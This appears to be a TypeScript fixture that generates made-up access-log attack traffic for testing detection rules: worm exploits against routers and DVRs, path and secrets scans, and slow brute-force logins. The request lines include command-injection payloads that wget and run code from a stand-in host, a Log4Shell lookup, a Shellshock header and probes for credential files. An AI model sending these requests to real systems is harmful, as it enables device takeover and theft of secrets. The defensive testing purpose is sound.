// For: today's attacks as trains of requests: worms of devices, scans of many paths, a slow train of log-ins.
// Never: a proof of detection quality; these lines are written by the authors of the rules.

import type { Request } from "../../rehearsals/made-log/access-line.ts";
import type { Random } from "../../rehearsals/made-log/random.ts";
import { codeRed, codeRedII, nimda } from "../../rehearsals/made-log/worms-of-2001.ts";

/** One request of a train; `family` undefined: no rule names it on its own. */
export interface Shot {
  readonly family: string | undefined;
  readonly request: Request;
}

export interface Train {
  readonly shots: readonly Shot[];
  /** Mean time between its requests. */
  readonly gapMs: number;
  /** It is an attack from so many requests on, and then from its first (default 1). */
  readonly countsFrom?: number;
}

function shot(family: string | undefined, line: string, answer: Partial<Request> = {}): Shot {
  return { family, request: { line, status: 404, bytes: 196, ...answer } };
}

const single: readonly Shot[] = [
  shot(
    "mozi",
    "GET /setup.cgi?next_file=netgear.cfg&todo=syscmd&cmd=rm+-rf+/tmp/*;wget+http://203.0.113.66:8088/Mozi.m+-O+/tmp/netgear;sh+netgear&curpath=/&currentsetting.htm=1 HTTP/1.0",
  ),
  shot(
    "jaws-dvr",
    "GET /shell?cd+/tmp;rm+-rf+*;wget+http://203.0.113.66/jaws;sh+/tmp/jaws HTTP/1.1",
    { agent: "Hello, world" },
  ),
  shot("gpon", "POST /GponForm/diag_Form?images/ HTTP/1.1", { agent: "Hello, World" }),
  shot("realtek-boa", "GET /boaform/admin/formLogin?username=adminisp&psd=adminisp HTTP/1.0"),
  shot(
    "tplink-luci",
    "GET /cgi-bin/luci/;stok=/locale?form=country&operation=write&country=$(id>`wget+http://203.0.113.66/t`) HTTP/1.1",
  ),
  shot("themoon", "GET /tmUnblock.cgi HTTP/1.1", { status: 400, bytes: 226 }),
  shot("tls-bytes", "\\x16\\x03\\x01\\x02", { status: 400, bytes: 226 }),
  shot("open-proxy", "CONNECT mx.example.net:25 HTTP/1.1", { status: 405, bytes: 226 }),
  shot("log4shell", "GET / HTTP/1.1", {
    status: 200,
    bytes: 8421,
    agent: "${jndi:ldap://203.0.113.66:1389/a}",
  }),
  shot("shellshock", "GET /cgi-bin/status HTTP/1.1", { agent: "() { :;}; /bin/bash -c id" }),
  shot(
    "thinkphp",
    "GET /index.php?s=/index/\\\\think\\\\app/invokefunction&function=call_user_func_array&vars[0]=md5 HTTP/1.1",
  ),
  shot("apache-traversal", "POST /cgi-bin/.%2e/.%2e/.%2e/.%2e/bin/sh HTTP/1.1", {
    status: 400,
    bytes: 226,
  }),
  shot("code-red", codeRed.line, codeRed),
  shot("code-red-ii", codeRedII.line, codeRedII),
];

const agent = "python-requests/2.31.0";
const scanned: readonly Shot[] = [
  ...["", "/lib", "/laravel", "/yii", "/www", "/public"].map((prefix) =>
    shot("phpunit", `POST ${prefix}/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php HTTP/1.1`, {
      agent,
    }),
  ),
  ...["/.env", "/.git/config", "/.aws/credentials", "/app/.env", "/api/.env", "/admin/.env"].map(
    (path) => shot("secrets", `GET ${path} HTTP/1.1`, { agent }),
  ),
  ...["", "blog", "wp", "site"].map((folder) =>
    shot("wordpress", `GET //${folder}${folder && "/"}wp-includes/wlwmanifest.xml HTTP/1.1`, {
      agent,
    }),
  ),
  ...["/phpMyAdmin/", "/pma/", "/phpmyadmin2/"].map((path) =>
    shot("phpmyadmin", `GET ${path} HTTP/1.1`, { agent }),
  ),
  shot("actuator", "GET /actuator/health HTTP/1.1", { agent }),
  shot("solr", "GET /solr/admin/info/system?wt=json HTTP/1.1", { agent }),
  shot("weblogic", "POST /wls-wsat/CoordinatorPortType HTTP/1.1", { agent }),
  ...[
    "admin",
    "backup",
    "old",
    "test",
    "config",
    "db",
    "upload",
    "console",
    "manager",
    "portal",
    "owa",
    "cgi",
    "tmp",
    "panel",
    "api",
  ].map((name) =>
    shot(undefined, `GET /${name}${name.length % 2 ? ".php" : "/"} HTTP/1.1`, { agent }),
  ),
];

const login: Shot = shot("wordpress", "POST /wp-login.php HTTP/1.1", {
  status: 200,
  bytes: 5120,
  agent: "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36",
});

const nimdaTrain: Train = {
  shots: nimda.map((request) => ({ family: "nimda", request })),
  gapMs: 1250,
};

/** Mean requests per train, for turning a share of lines into a rate of trains. */
export const meanTrainLength = 0.25 * 16 + 0.45 * 1 + 0.2 * 23 + 0.1 * 20;

export function nextTrain(random: Random): Train {
  const kind = random.next();
  if (kind < 0.25) return nimdaTrain;
  if (kind < 0.7) return { shots: [random.pick(single)], gapMs: 1000 };
  if (kind < 0.9) {
    const from = random.below(scanned.length);
    const length = random.between(8, 38);
    return {
      shots: Array.from({ length }, (_, at) => scanned[(from + at) % scanned.length] as Shot),
      gapMs: 700,
    };
  }
  return { shots: Array<Shot>(random.between(8, 32)).fill(login), gapMs: 40_000, countsFrom: 6 };
}
